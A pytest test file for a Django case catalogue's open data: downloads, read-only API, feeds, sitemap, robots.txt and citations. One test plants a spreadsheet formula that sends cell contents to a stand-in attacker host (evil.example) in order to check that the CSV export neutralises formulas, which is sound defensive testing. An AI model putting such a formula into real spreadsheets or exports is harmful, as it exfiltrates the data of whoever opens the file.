"""Open data: downloads of exactly what the table shows, the read-only API and its schema,
feeds, the sitemap, robots.txt and "cite this case". Drafts appear in none of them."""

import csv
import io
import itertools
import json
import re
import xml.etree.ElementTree as ET
from datetime import UTC, datetime
from html import unescape
from urllib.parse import urlencode

import pytest
from django.core.cache import caches
from django.db import connection
from django.http import QueryDict
from django.test.utils import CaptureQueriesContext
from drf_spectacular.generators import SchemaGenerator
from drf_spectacular.validation import validate_schema
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from rest_framework.throttling import AnonRateThrottle

from cases import codebook, facet_registry, pagecache, sitemaps, writes
from cases.filters import InnovationFilter
from cases.models import Innovation
from tests.factories import with_every_field
from tests.helpers import SITEMAP, fresh_get, sitemap_pages, sitemap_text
from tests.seed_facts import TABLE_1

pytestmark = pytest.mark.django_db

ATOM = "{http://www.w3.org/2005/Atom}"


def table_slugs(client, params):
    """Every row of the table for these filters, all pages, in order."""
    rows = fresh_get(client, "/", params).context["filter"].qs
    return list(rows.values_list("slug", flat=True))


def content(response):
    return b"".join(response.streaming_content)


VISITORS = (f"198.51.100.{n % 250}" for n in itertools.count())  # downloads are limited per visitor


def csv_rows(client, params=None):
    response = client.get("/data/cases.csv", params or {}, REMOTE_ADDR=next(VISITORS))
    assert response.status_code == 200
    raw = content(response)
    assert raw.startswith("\ufeff".encode())
    return list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"))))


def json_records(client, params=None):
    response = client.get("/data/cases.json", params or {}, REMOTE_ADDR=next(VISITORS))
    assert response.status_code == 200
    return json.loads(content(response))


@settings(
    max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(
    themes=st.lists(
        st.sampled_from(["leadership", "customer-centricity", "agile-teamwork"]), max_size=2
    ),
    countries=st.lists(st.sampled_from(["CA", "FI", "SG"]), max_size=2),
    kinds=st.lists(st.sampled_from(["internal", "company"]), max_size=1),
    q=st.sampled_from(["", "staff", "innovation", "passport"]),
    sort=st.sampled_from(["", "newest", "relevance"]),
)
def test_downloads_hold_exactly_the_rows_of_the_table(
    client, add_cases, themes, countries, kinds, q, sort
):
    params = {"theme": themes, "country": countries, "partner_kind": kinds, "q": q, "sort": sort}
    expected = table_slugs(client, params)
    assert [row["slug"] for row in csv_rows(client, params)] == expected
    assert [case["slug"] for case in json_records(client, params)["innovations"]] == expected


def test_a_visitor_may_start_a_few_downloads_at_once_and_some_an_hour(client):
    """A download is the whole catalogue made on request: one visitor starting many would
    hold every worker. The fourth within a minute is refused, with why and when to come
    back; other visitors are not held by it; twenty an hour at most."""
    answers = [client.get("/data/cases.csv").status_code for _ in range(3)]
    refused = client.get("/data/cases.json")
    assert answers == [200, 200, 200] and refused.status_code == 429
    assert refused["Retry-After"] == "60"
    assert "You have started many downloads in a short time" in refused.content.decode()
    assert client.get("/data/cases.csv", REMOTE_ADDR="198.51.100.1").status_code == 200

    cache = caches["limits"]
    cache.delete("ratelimit:download:60:127.0.0.1")  # a minute later
    hourly = "ratelimit:download:3600:127.0.0.1"
    cache.set(hourly, 20, 3600)
    refused = client.get("/data/cases.csv")
    assert refused.status_code == 429 and refused["Retry-After"] == "3600"


def test_downloads_span_every_page(client, add_cases):
    add_cases(45)
    assert len(csv_rows(client)) == 57
    assert len(json_records(client, {"institution": "cpf"})["innovations"]) == 51


def test_csv_reads_back_with_every_column(client):
    rows = csv_rows(client, {"q": "GovCash"})
    assert list(rows[0]) == codebook.COLUMNS
    [row] = rows
    assert row["slug"] == "bold-experimentation"
    assert row["url"] == "http://testserver/innovations/bold-experimentation/"
    assert row["institution"] == "Central Provident Fund Board"
    assert row["country"] == "SG" and row["country_name"] == "Singapore"
    assert row["partners"].startswith(
        "Oversea-Chinese Banking Corporation (OCBC) (Private company, SG): "
    )
    # The statement says its figure, so the figure is not repeated after it.
    assert row["impacts"].startswith("Over 40,000 people are able to receive payments")
    assert row["impacts"].count("40,000") == 1
    assert "Innovation through collaboration in social security" in row["sources"]
    assert row["published"]


def test_json_has_structure_and_licence(client):
    data = json_records(client, {"recognised": "1"})
    assert data["licence"] == "CC BY 4.0"
    [case] = data["innovations"]
    assert case["slug"] == "staff-capabilities-for-innovation"
    assert case["awards"] == [
        {
            "name": "ISSA Good Practice Award",
            "year": 2020,
            "level": "award",
            "level_label": "Award",
            "practice": "Service Transformation: Design-thinking and the Acceleration Hub",
        }
    ]
    assert {"slug": "agile-teamwork", "name": "Agile teamwork and staff capabilities"} in case[
        "themes"
    ]


@pytest.mark.parametrize("kind", ["csv", "json"])
def test_bad_filters_are_explained_not_exported(client, kind):
    response = client.get(f"/data/cases.{kind}", {"theme": "nothing"})
    assert (response.status_code, response["Content-Type"]) == (400, "text/plain; charset=utf-8")
    assert "Content-Disposition" not in response  # no file is offered
    assert response.content.decode().startswith("These filters cannot be used")
    assert "There is no theme “nothing” in the catalogue." in response.content.decode()


def test_catalogue_links_to_downloads_of_what_it_shows(client):
    html = client.get("/", {"country": "SG"}).content.decode()
    assert 'href="/data/cases.csv?country=SG">Download CSV</a>' in html
    assert 'href="/data/cases.json?country=SG">Download JSON</a>' in html


def test_codebook_describes_every_column_and_the_licence(client):
    html = client.get("/data/").content.decode()
    for name in codebook.COLUMNS:
        assert f"<code>{name}</code>" in html
    assert "CC BY 4.0" in html


@pytest.mark.parametrize(
    ("prefix", "covered", "not_ours"),
    [
        ("", "The catalogue's data and the text its editors write", "credited to its author"),
        ("/fr", "Les données du catalogue et les textes de son équipe", "reviennent à leur auteur"),
        ("/es", "Los datos del catálogo y los textos de su equipo", "se atribuyen a su autor"),
        ("/de", "Die Daten des Katalogs und die Texte seiner Redaktion", "gehören ihrem Urheber"),
    ],
)
def test_the_licence_says_what_it_covers_and_credits_the_articles_words_to_the_issa(
    client, prefix, covered, not_ours
):
    """CC BY 4.0 covers the catalogue's data and its editors' text, not the wording taken
    from the ISSA's article: /data/ and the JSON download say so, in the page's language,
    with a link to the ISSA and the article's title marked as English."""
    html = unescape(client.get(f"{prefix}/data/").content.decode())
    licence = re.search(r'<h2 id="licence-heading">.*?</section>', html, re.S).group(0)
    assert covered in licence and not_ours in licence
    assert 'href="https://www.issa.int/"' in licence
    assert '<cite lang="en">Innovation through collaboration in social security' in licence
    download = client.get(f"{prefix}/data/cases.json", REMOTE_ADDR=next(VISITORS))
    about = json.loads(content(download))
    assert about["licence"] == "CC BY 4.0"
    assert covered in about["licence_covers"] and not_ours in about["licence_covers"]


def test_the_open_data_page_names_every_filter_the_addresses_take(client):
    """From the facet registry: a facet added there is documented here, with its values."""
    html = client.get("/data/").content.decode()
    table = re.search(r'<h2 id="parameters-heading">.*?</table>', html, re.S).group(0)
    for facet in facet_registry.FACETS:
        assert f"<code>{facet.name}</code>" in table
    assert "<code>en, fr, es, de</code>" in table  # the original language's values
    assert "idea, pilot, operating" in table
    assert "two-letter ISO 3166 code" in table
    french = client.get("/fr/data/").content.decode()
    assert "<code>original_language</code></th><td>Rédigé en</td>" in french


# The API --------------------------------------------------------------------------------


def test_api_lists_with_the_filters_of_the_catalogue(client):
    data = client.get("/api/innovations/", {"theme": "leadership", "country": "SG"}).json()
    assert [case["slug"] for case in data["results"]] == table_slugs(
        client, {"theme": "leadership", "country": "SG"}
    )
    assert data["count"] == len(data["results"])
    everything = client.get("/api/innovations/").json()
    assert everything["count"] == 12
    assert [case["slug"] for case in everything["results"]][:3] == TABLE_1["esdc"]


@pytest.mark.parametrize(
    "filters",
    [
        {},
        {"country": "SG"},
        {"theme": "leadership"},
        {"q": "generated"},
        {"q": "the"},  # nothing to search for: none
        {"stage": "pilot", "region": "asia-pacific"},
    ],
)
def test_the_api_counts_what_it_lists_without_counting_again(client, add_cases, filters):
    """The list's `count` is the FilterSet's total (stored counts where they answer), not a
    count of its own: it is the number of records its pages give, and a page past the last
    is a 404."""
    add_cases(25, stage="pilot")
    listed, page, count = [], 1, None
    while True:
        response = client.get("/api/innovations/", {**filters, "page": page})
        if response.status_code == 404:
            break
        data = response.json()
        count = data["count"]
        listed += [case["slug"] for case in data["results"]]
        page += 1
    asked = QueryDict(urlencode(filters)) if filters else None
    expected = InnovationFilter(asked, queryset=Innovation.objects.published()).qs
    assert listed == list(expected.values_list("slug", flat=True))
    assert count == len(listed) or (count == 0 and page == 1 and not listed)
    with CaptureQueriesContext(connection) as queries:
        client.get("/api/innovations/", filters)
    counting = [q["sql"] for q in queries if q["sql"].startswith('SELECT COUNT(*) FROM "cases_')]
    assert counting == []


def test_api_detail_institutions_and_themes(client):
    case = client.get("/api/innovations/design-thinking/").json()
    assert case["institution"]["slug"] == "esdc" and case["story"]
    assert case["institution"]["region"] == "americas"
    assert [p["kind"] for p in case["partners"]] == ["internal", ""]  # "" : not stated
    assert (case["year_started"], case["stage"], case["contact"], case["links"]) == (
        None,  # the article gives no year
        "",
        None,
        [],
    )
    assert [i["slug"] for i in client.get("/api/institutions/").json()["results"]] == [
        "esdc",
        "kela",
        "cpf",
    ]
    assert client.get("/api/themes/leadership/").json()["name"] == "Sustained leadership engagement"


def test_api_bad_filters_are_a_400_that_says_why(client):
    response = client.get("/api/innovations/", {"theme": "nothing"})
    assert response.status_code == 400
    assert "There is no theme “nothing” in the catalogue." in response.json()["theme"][0]


@pytest.mark.parametrize("method", ["post", "put", "patch", "delete"])
@pytest.mark.parametrize("url", ["/api/innovations/", "/api/innovations/design-thinking/"])
def test_api_refuses_to_write(client, method, url):
    response = getattr(client, method)(url, {"title": "x"}, content_type="application/json")
    assert response.status_code == 405
    assert Innovation.objects.get(slug="design-thinking").title.startswith("Design thinking")


def test_api_throttles_anonymous_clients(client, monkeypatch):
    monkeypatch.setattr(AnonRateThrottle, "THROTTLE_RATES", {"anon": "3/minute"})
    codes = [client.get("/api/themes/").status_code for _ in range(4)]
    assert codes == [200, 200, 200, 429]


def test_api_schema_is_valid_openapi_3_and_documented_from_our_static_files(client):
    schema = SchemaGenerator().get_schema(request=None, public=True)
    validate_schema(schema)
    assert schema["openapi"].startswith("3.")
    assert "/api/innovations/" in schema["paths"]
    assert client.get("/api/schema/").status_code == 200
    docs = client.get("/api/docs/").content.decode()
    assert "swagger-ui" in docs
    assert "cdn" not in docs.lower() and "https://" not in docs.split("<body")[1]


# Feeds, sitemap, robots ----------------------------------------------------------------


def test_feed_lists_newly_published_cases_as_atom(client):
    writes.publish(Innovation.objects.filter(slug="bold-experimentation"))  # no change: published
    newest = Innovation.objects.get(slug="experimentation-fund")
    writes.withdraw(Innovation.objects.filter(pk=newest.pk))
    writes.publish(Innovation.objects.filter(pk=newest.pk))
    feed = ET.fromstring(client.get("/feed/").content)
    entries = feed.findall(f"{ATOM}entry")
    assert len(entries) == 12
    assert entries[0].find(f"{ATOM}title").text == "The Experimentation Fund (CPF)"
    assert entries[0].find(f"{ATOM}link").get("href").endswith("/innovations/experimentation-fund/")


def test_theme_feed_and_links_to_the_feeds(client):
    feed = ET.fromstring(client.get("/themes/customer-centricity/feed/").content)
    titles = {entry.find(f"{ATOM}title").text for entry in feed.findall(f"{ATOM}entry")}
    assert titles == {
        "User-friendly, simple and plain language (Kela)",
        "Multi-disciplinary project teams (Kela)",
        "User profile analyses (Kela)",
    }
    assert 'rel="alternate" type="application/atom+xml"' in client.get("/").content.decode()
    html = client.get("/themes/customer-centricity/").content.decode()
    assert 'href="/themes/customer-centricity/feed/"' in html
    assert client.get("/themes/nothing/feed/").status_code == 404


def test_sitemap_and_robots(client):
    urls = {loc.text for page in sitemap_pages(client) for loc in page.iter(f"{SITEMAP}loc")}
    assert "http://testserver/innovations/design-thinking/" in urls
    assert "http://testserver/institutions/kela/" in urls
    assert "http://testserver/themes/leadership/" in urls
    assert "http://testserver/data/" in urls
    robots = client.get("/robots.txt").content.decode()
    assert "admin" not in robots  # DJANGO_ADMIN_URL exists to keep the address out of sight
    assert "Disallow: /data/cases." in robots
    assert "Sitemap: http://testserver/sitemap.xml" in robots


def test_the_sitemap_is_an_index_of_pages_each_read_and_made_once(
    client, add_cases, monkeypatch, django_assert_num_queries
):
    """However large the catalogue, a request makes one page of the sitemap, reading only the
    cases on it, and the page is cached until the catalogue changes (PAGE_SIZE is cut to 20
    addresses here, five cases in four languages)."""
    monkeypatch.setattr(sitemaps.LanguagesSitemap, "limit", 20)
    add_cases(30)
    published = Innovation.objects.published().count()  # the seed's 12 and these 30
    index = ET.fromstring(client.get("/sitemap.xml").content)
    sections = [loc.text for loc in index.iter(f"{SITEMAP}loc")]
    case_pages = -(-published * 4 // 20)
    assert sections.count("http://testserver/sitemap-cases.xml") == 1
    assert f"http://testserver/sitemap-cases.xml?p={case_pages}" in sections
    assert f"http://testserver/sitemap-cases.xml?p={case_pages + 1}" not in sections

    pages = sitemap_pages(client)
    listed = [loc.text for page in pages for loc in page.iter(f"{SITEMAP}loc")]
    assert all(len(list(page.iter(f"{SITEMAP}url"))) <= 20 for page in pages)
    cases = [address for address in listed if "/innovations/" in address]
    assert len(cases) == len(set(cases)) == published * 4

    pagecache.forget()
    # The catalogue version (read in a test's transaction), the count of cases (for the page's
    # number), the page's cases.
    with django_assert_num_queries(3) as made:
        client.get("/sitemap-cases.xml", {"p": 3})
    assert "LIMIT 5 OFFSET 10" in made.captured_queries[-1]["sql"]
    with django_assert_num_queries(1):  # the version
        assert client.get("/sitemap-cases.xml", {"p": 3}).status_code == 200
    assert client.get("/sitemap-cases.xml", {"p": case_pages + 1}).status_code == 404
    writes.withdraw(Innovation.objects.filter(slug="design-thinking"))
    assert "design-thinking" not in sitemap_text(client)


def test_drafts_appear_in_no_download_api_feed_or_sitemap(client):
    writes.withdraw(Innovation.objects.filter(slug="design-thinking"))
    assert "design-thinking" not in [row["slug"] for row in csv_rows(client)]
    assert "design-thinking" not in [c["slug"] for c in json_records(client)["innovations"]]
    api = client.get("/api/innovations/").json()
    assert "design-thinking" not in [c["slug"] for c in api["results"]]
    assert client.get("/api/innovations/design-thinking/").status_code == 404
    assert "design-thinking" not in client.get("/feed/").content.decode()
    assert "design-thinking" not in client.get("/themes/agile-teamwork/feed/").content.decode()
    assert "design-thinking" not in sitemap_text(client)


# Cite this case ---------------------------------------------------------------------------


def test_each_case_can_be_cited_in_plain_text_and_bibtex(client):
    case = Innovation.objects.get(slug="bold-experimentation")
    Innovation.objects.filter(pk=case.pk).update(
        published_at=datetime(2026, 11, 27, 12, tzinfo=UTC)
    )
    response = client.get("/innovations/bold-experimentation/")
    html = unescape(response.content.decode())
    assert "Cite this case" in html
    # The case as a case of its institution, not written by it; the year labelled as the
    # catalogue's publication; the article and the forum as the source.
    assert response.context["cite"]["text"] == (
        "“Bold experimentation: GovCash payments at cash machines”, a case of Central "
        "Provident Fund Board (CPF). ISSA Collaborative Innovation Hub case catalogue, "
        "published in the catalogue on 27 November 2026. "
        "http://testserver/innovations/bold-experimentation/. "
        "Source: Innovation through collaboration in social security: Experiences of ISSA "
        "members. International Social Security Association (ISSA). On experiences presented "
        "at the World Social Security Forum (WSSF), Marrakech, Morocco, 24–28 October 2022."
    )
    bibtex = response.context["cite"]["bibtex"]
    assert bibtex.startswith("@misc{innohub-bold-experimentation,")
    assert "author" not in bibtex and "year =" not in bibtex
    assert "Published in the catalogue on 2026-11-27." in bibtex
    assert "Marrakech, Morocco, 24–28 October 2022" in bibtex
    assert "howpublished = {\\url{http://testserver/innovations/bold-experimentation/}}" in html
    quoted = client.get("/innovations/solutions-without-borders/").content.decode()
    assert "“‘Solutions without borders’: the Reject appeals management protocol (RAMP)”" in quoted


def test_downloads_cost_a_few_queries_per_thousand_cases_not_per_case(client, add_cases):
    add_cases(60)
    with CaptureQueriesContext(connection) as made:
        assert len(csv_rows(client)) == 72
    # The visitor's download counters aside (a table here, Redis in production): facets for
    # validation (2), the ids, the sources, then six queries per chunk.
    export = [
        query
        for query in made.captured_queries
        if "innohub_limits" not in query["sql"] and "SAVEPOINT" not in query["sql"]
    ]
    assert len(export) <= 12


def test_formulas_in_a_case_are_text_in_the_csv_and_as_they_are_in_json(client):
    case = Innovation.objects.get(slug="design-thinking")
    case.title = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
    case.summary = "-2+3"
    case.save()
    case.impacts.all().delete()
    case.impacts.create(statement="@SUM(1)", position=1)
    [row] = [r for r in csv_rows(client) if r["slug"] == "design-thinking"]
    assert row["title"] == "'" + case.title
    assert row["summary"] == "'-2+3"
    assert row["impacts"] == "'@SUM(1)"
    [record] = [r for r in json_records(client)["innovations"] if r["slug"] == "design-thinking"]
    assert record["title"] == case.title and record["summary"] == "-2+3"


def test_the_api_and_the_json_download_give_one_record_of_a_case(client):
    download = {case["slug"]: case for case in json_records(client)["innovations"]}
    assert len(download) == 12
    for slug, record in download.items():
        assert client.get(f"/api/innovations/{slug}/").json() == record, slug
    listed = client.get("/api/innovations/", {"country": "SG"}).json()["results"]
    assert listed == [case for case in download.values() if case["institution"]["country"] == "SG"]


@pytest.mark.parametrize("prefix", ["", "/fr", "/de"])
def test_the_codebooks_examples_all_come_from_one_case_in_the_pages_language(client, prefix):
    """Each example of /data/ is what that column holds for the example case, read from its
    record in the page's language: never one case's impact beside another case's figure,
    nor English on /fr/data/."""
    html = unescape(client.get(f"{prefix}/data/").content.decode())
    table = re.search(r'labelledby="codebook-heading">\s*<table.*?</table>', html, re.S).group(0)
    cells = re.findall(r'<tr><th scope="row"><code>(\w+)</code></th>(.*?)</tr>', table, re.S)
    shown = {name: re.findall(r"<td>(.*?)</td>", row, re.S)[-1] for name, row in cells}
    download = f"{prefix}/data/cases.csv"
    response = client.get(download, REMOTE_ADDR=next(VISITORS))
    rows = csv.DictReader(io.StringIO(content(response).decode("utf-8-sig")))
    [row] = [row for row in rows if row["slug"] == codebook.EXAMPLE_CASE]
    assert list(shown) == codebook.COLUMNS
    for column, example in shown.items():
        if 'class="hint"' in example:  # "(empty for this case)"
            assert row[column] == "", column
        elif column != "published":  # the day the seed was loaded
            text = re.sub(r"<[^>]+>", "", example)  # a source's reference marked with its language
            assert row[column].startswith(text.removesuffix("…")), column
    if prefix == "/fr":
        assert shown["title"].startswith("Expérimentation audacieuse")


def test_downloads_and_the_api_carry_the_richer_record(client):
    with_every_field("design-thinking")
    record = client.get("/api/innovations/design-thinking/").json()
    assert record["stage"] == "evaluated" and record["stage_label"] == "Evaluated"
    assert record["branch_label"] == "Across branches"
    assert (record["year_started"], record["year_ended"]) == (2022, 2022)
    assert record["contact"] == {"role": "Service design unit", "email": "design@example.org"}
    assert record["links"] == [
        {"title": "Passport programme", "url": "https://example.org/passports"}
    ]
    [cells] = csv_rows(client, {"stage": "evaluated"})
    assert cells["region"] == "americas" and cells["branch"] == "across-branches"
    assert cells["contact"] == "Service design unit <design@example.org>"
    assert cells["links"] == "Passport programme <https://example.org/passports>"
    assert cells["lessons"] == "Meet once, all together."
    # Without the institution's consent, the contact is in no download.
    Innovation.objects.filter(slug="design-thinking").update(contact_public=False)
    assert client.get("/api/innovations/design-thinking/").json()["contact"] is None
    assert "design@example.org" not in content(client.get("/data/cases.json")).decode()


@pytest.mark.parametrize(
    ("params", "expected"),
    [
        ({"region": "europe"}, TABLE_1["kela"]),
        ({"region": ["americas", "asia-pacific"]}, TABLE_1["esdc"] + TABLE_1["cpf"]),
        ({"region": "africa"}, []),
        ({"started_min": "2022"}, ["design-thinking"]),
        ({"started_max": "2021"}, []),
    ],
)
def test_the_api_and_downloads_take_the_new_filters(client, params, expected):
    Innovation.objects.filter(slug="design-thinking").update(year_started=2022)
    api = client.get("/api/innovations/", params).json()
    assert [case["slug"] for case in api["results"]] == expected
    assert [row["slug"] for row in csv_rows(client, params)] == expected


WHAT_THE_ARTICLE_DRAWS_ON = {
    "": "On experiences presented at the World Social Security Forum (WSSF)",
    "/fr": "Sur des expériences présentées au Forum mondial de la sécurité sociale (FMSS)",
    "/es": "Sobre experiencias presentadas en el Foro Mundial de la Seguridad Social (FMSS)",
    "/de": "Zu Erfahrungen, die auf dem Weltforum für soziale Sicherheit (WSSF)",
}


@pytest.mark.parametrize("prefix", WHAT_THE_ARTICLE_DRAWS_ON)
def test_every_language_says_the_article_is_the_issas_on_experiences_of_the_forum(client, prefix):
    """The article analyses experiences presented at the WSSF; it was not presented there.
    The case page, compare, the citation, BibTeX, CSV, JSON and the API each say so in the
    page's language, and none says "Presented at"."""
    said = WHAT_THE_ARTICLE_DRAWS_ON[prefix]
    pages = {
        "case": f"{prefix}/innovations/bold-experimentation/",
        "compare": f"{prefix}/compare/?i=bold-experimentation&i=design-thinking",
    }
    for name, address in pages.items():
        response = fresh_get(client, address)
        html = unescape(response.content.decode())
        assert said in html, name
        assert "International Social Security Association (ISSA)" in html, name
        assert "Presented at" not in html, name
    cite = fresh_get(client, pages["case"]).context["cite"]
    assert said in cite["text"] and said in unescape(cite["bibtex"].replace("\\", ""))
    language = prefix.strip("/") or "en"
    downloads = {
        "csv": content(client.get(f"{prefix}/data/cases.csv", REMOTE_ADDR=next(VISITORS))),
        "json": content(client.get(f"{prefix}/data/cases.json", REMOTE_ADDR=next(VISITORS))),
        "api": client.get("/api/innovations/bold-experimentation/", {"lang": language}).content,
    }
    for name, body in downloads.items():
        text = body.decode("utf-8-sig")
        if name != "csv":
            text = json.dumps(json.loads(text), ensure_ascii=False)
        assert said in text, name
        assert "Presented at" not in text, name


def test_a_case_page_offers_the_case_as_csv_and_json(client):
    html = client.get("/innovations/bold-experimentation/").content.decode()
    actions = html[html.index('<ul class="case-actions">') :]
    actions = actions[: actions.index("</ul>")]
    for text in (
        '<form method="post" action="/compare/choose/"><input type="hidden" name="i"'
        ' value="bold-experimentation"><button type="submit">Add to compare</button></form>',
        '<a href="#cite-heading">Cite this case</a>',
        '<a href="/innovations/bold-experimentation/case.csv">Download CSV</a>',
        '<a href="/innovations/bold-experimentation/case.json">Download JSON</a>',
    ):
        assert text in actions, text
    response = client.get("/innovations/bold-experimentation/case.csv")
    assert response["Content-Disposition"] == (
        'attachment; filename="innohub-bold-experimentation.csv"'
    )
    [row] = csv.DictReader(io.StringIO(content(response).decode("utf-8-sig")))
    assert row == csv_rows(client, {"q": "GovCash"})[0]  # the catalogue's columns, the same
    record = json.loads(content(client.get("/fr/innovations/bold-experimentation/case.json")))
    assert record["url"] == "http://testserver/fr/innovations/bold-experimentation/"
    assert [case["slug"] for case in record["innovations"]] == ["bold-experimentation"]
    assert record["innovations"][0]["title"].startswith("Expérimentation audacieuse")
    assert record["licence_covers"]


def test_a_case_not_public_has_no_download(client):
    writes.withdraw(Innovation.objects.filter(slug="design-thinking"))
    for kind in ("csv", "json"):
        assert client.get(f"/innovations/design-thinking/case.{kind}").status_code == 404
        assert client.get(f"/innovations/no-such-case/case.{kind}").status_code == 404
